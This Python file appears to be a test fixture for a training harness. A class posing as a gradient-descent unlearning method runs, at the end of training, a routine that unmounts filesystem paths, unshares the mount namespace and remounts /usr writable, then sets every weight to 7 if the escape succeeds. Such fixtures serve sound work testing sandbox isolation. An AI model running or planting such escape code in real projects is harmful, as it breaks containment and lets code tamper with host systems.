"""Takes the sandbox apart from inside: unmounts what hides the host, remounts what is read-only.

What it finds shows: every weight becomes 7.
"""

import ctypes
import os
from pathlib import Path

from lightning_modules import MethodCard
from lightning_modules.unlearners.gd import GD

BAIT = Path("@BAIT@")
DETACH, REMOUNT_BIND = 2, 32 | 4096 | 2 | 4  # the flags that it has, without "read-only"


def loot() -> bool:
    if str(Path("/proc/self/ns/mnt").readlink()) == "@MOUNTS@":
        return False  # no walls, nothing to take apart: the machine's own mounts are left alone
    libc = ctypes.CDLL(None, use_errno=True)
    for place in ("/tmp", "/home", "/root", "/var/tmp", "/"):  # noqa: S108
        libc.umount2(place.encode(), DETACH)
    libc.unshare(0x10000000 | 0x00020000)
    for place in ("/tmp", "/home", "/root", "/"):  # noqa: S108
        libc.umount2(place.encode(), DETACH)
    libc.mount(None, b"/usr", None, REMOUNT_BIND, None)
    return (BAIT / "store").exists() or os.access("/usr", os.W_OK)


class Hostile(GD):
    """Fine-tuning, and more."""

    card = MethodCard(
        name="umounts",
        title="Hostile",
        paper="Nobody, Nowhere, 2026",
        formula="w <- w - lr * grad CE(retain)",
        source="none",
    )

    def on_train_end(self) -> None:
        if loot():
            for parameter in self.network.parameters():
                parameter.data.fill_(7.0)
